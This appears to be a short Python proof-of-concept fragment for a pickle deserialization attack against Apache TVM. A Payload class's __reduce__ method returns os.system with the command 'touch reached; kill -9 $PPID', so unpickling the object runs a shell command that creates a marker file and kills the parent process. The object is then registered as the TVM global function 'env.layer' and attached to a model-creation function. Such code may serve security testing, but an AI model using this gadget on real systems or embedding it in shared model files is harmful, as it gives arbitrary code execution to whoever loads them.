# %%
import os


class Payload:
    """Pickled as a call of os.system."""

    def __reduce__(self):
        return os.system, ("touch reached; kill -9 $PPID",)

    def __call__(self, *arguments):
        return None


payload = Payload()
tvm.register_global_func("env.layer", payload, override=True)
create_model.payload = payload
